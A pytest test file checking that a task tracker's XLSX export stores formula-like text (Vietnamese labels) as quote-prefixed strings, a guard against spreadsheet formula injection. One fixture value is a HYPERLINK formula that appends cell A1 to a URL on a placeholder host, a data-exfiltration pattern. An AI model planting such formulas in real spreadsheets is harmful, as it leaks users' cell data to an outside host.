"""Exported text that begins like a formula stays text when someone edits the cell (issue #11,
item 7): written with the quote prefix, as spreadsheet software stores a leading apostrophe."""

import datetime as dt
import io

import openpyxl
import pytest

from dondoc.tracking.models import Task
from dondoc.tracking.xlsx import tasks_to_xlsx

TODAY = dt.date(2026, 11, 26)
FORMULA_LIKE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-Mục 2, điểm a",
    "@SUM(A1:A9)",
    "\tthụt đầu dòng",
]


@pytest.fixture
def tasks(lead_agency) -> list[Task]:
    fields = {"lead_agency": lead_agency, "due_on": TODAY, "created_on": TODAY}
    return [
        Task.objects.create(title=text, source_clause=text, expected_product=text, **fields)
        for text in FORMULA_LIKE
    ]


def test_formula_like_text_is_exported_as_quote_prefixed_text_and_reads_back_as_typed(tasks):
    sheet = openpyxl.load_workbook(io.BytesIO(tasks_to_xlsx(Task.objects.order_by("id")))).active
    header = [cell.value for cell in sheet[1]]
    columns = [header.index(title) for title in ("Điều khoản", "Nhiệm vụ", "Sản phẩm đầu ra")]
    for row, text in zip(sheet.iter_rows(min_row=2), FORMULA_LIKE, strict=True):
        for index in columns:
            cell = row[index]
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_ordinary_text_gets_no_quote_prefix(lead_agency):
    Task.objects.create(title="Rà soát - bổ sung", lead_agency=lead_agency, due_on=TODAY,
                        created_on=TODAY)  # fmt: skip
    sheet = openpyxl.load_workbook(io.BytesIO(tasks_to_xlsx(Task.objects.all()))).active
    title = next(cell for cell in sheet[2] if cell.value == "Rà soát - bổ sung")
    assert not title.quotePrefix
